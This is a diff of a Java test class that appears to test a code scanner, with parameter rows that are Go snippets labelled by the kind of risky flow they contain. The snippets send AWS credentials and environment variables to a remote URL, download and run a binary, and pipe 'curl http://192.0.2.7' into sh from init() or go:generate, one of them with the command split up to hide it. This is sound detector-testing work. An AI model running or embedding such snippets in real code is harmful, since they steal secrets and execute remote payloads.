@@ -43,6 +43,8 @@ class SourceReaderTest {
           go ## up ## send<secret ## func (c *C) up(n int) error {\\n b, _ := os.ReadFile(h + "/.aws/credentials")\\n http.Post(u, "t", bytes.NewReader(b))\\n}
           go ## init ## send<environment ## func init() {\\n s := strings.Join(os.Environ(), ",")\\n http.PostForm(u, url.Values{"e": {s}})\\n}
           go ## init ## run-process<fetch ## func init() {\\n r, _ := http.Get(u)\\n f, _ := os.Create("/tmp/t")\\n io.Copy(f, r.Body)\\n exec.Command("/tmp/t").Start()\\n}
+          go ## init ## run-code<fetch ## func init() {\\n s := []string{"cu", "rl ", "-s http://", "192.0.2.7 | ", "s", "h"}\\n t := s[0] + s[1] + s[2] + s[3] + s[4] + s[5]\\n exec.Command("sh", "-c", t).Run()\\n}
+          go ## init ## run-code<fetch ## func init() {\\n exec.Command("sh", "-c", "curl -s http://"+"192.0.2.7 "+"| sh").Run()\\n}
           go ## go:generate ## run-code<fetch ## //go:generate sh -c "curl -s http://192.0.2.7 | sh"
           """)
   void callsAndWhatFlowsIntoThem(String language, String unit, String need, String text) {
